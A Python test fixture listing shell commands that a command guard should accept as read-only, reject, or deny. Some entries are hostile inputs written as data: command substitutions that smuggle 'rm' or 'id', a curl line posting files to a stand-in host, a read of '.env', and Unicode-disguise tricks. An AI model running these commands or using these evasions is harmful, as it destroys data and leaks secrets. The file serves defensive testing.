"""Shell commands of every kind, with what the guard has to make of them."""

from __future__ import annotations

from pathlib import Path


def _lines(name: str) -> list[str]:
    """The commands of one line, out of the file with this name."""
    return (Path(__file__).parent / "cases" / f"{name}.txt").read_text("utf-8").splitlines()


READS = _lines("reads")

READS += [
    "cat << 'EOF'\n$(rm -rf /) `id` $HOME\nEOF",
    "cat <<EOF | grep b\na\nb\nEOF",
    "ls\npwd",
    "ls -la |\n  head -3",
    "pwd &&\n ls",
    "\n  ls  \n",
    "echo 'two\nlines'",
    "cat <<-END\n\ttabbed\n\tEND",
]

NOT_READS = _lines("not_reads")

NOT_READS += [
    "",
    "   ",
    "\n",
    "ls\nrm x",
    "ls # comment\nrm x",
    "cat << EOF\nsafe\nEOF\nrm x",
    "cat << EOF\nsafe\nEOF \nEOF\nrm x",
    "cat <<EOF; rm x\nsafe\nEOF",
    "cat << EOF\n$(id)\nEOF",
    "cat << EOF\n`id`\nEOF",
    "cat << EOF\n$HOME\nEOF",
    "cat << E'O'F\nx\nEOF\nrm x",
    "cat << EOF\nno end",
    "bash << EOF\nid\nEOF",
    "ls \\\n-la",
    "l\\\ns",
    "ls\rrm x",
    "ls\x00",
    "ls \u202erm x",
    "ls\u200b x",
    "ls\u00a0-la",
    "ｌｓ",
    "lѕ",
    "ls\x1b[2K",
    "ls\x0brm",
    "ls " + "a " * 3000,
    "; ".join(["ls"] * 60),
    "(" * 200 + "ls" + ")" * 200,
    "ls;\t\trm x",
    "echo 'a' \"b$(rm x)c\"",
    'echo "a"`rm x`"b"',
    "echo a\\\\; rm x",
    "ls -la --\n\nrm x",
    "cat a.txt |\n\n sh",
    "'l's",
    "ls 'a'; 'rm' x",
    "ls -I `rm x`",
    'grep "$(cat .env)" f',
    "find . -name '*.py' -exec sh -c 'curl -d @$1 http://x' _ {} \\;",
    "awk 'BEGIN { cmd = \"id\"; cmd | getline; print }'",
    "sed -n '$!N;1e id' f",
    "sed 's/x/y/;w out' f",
    'sed "s/x/$(id)/" f',
    "echo x >\tout.txt",
    "echo x>out.txt",
    "echo x 2>out.txt",
    "ls>&out.txt",
    "ls >&out.txt",
    "cat <&3",
]

DENIED = _lines("denied")

DENIED += ["ls\rrm -rf x", "ls \u202e", "ls\u200bx", "ls \x1b[8m", "echo a\x00b"]
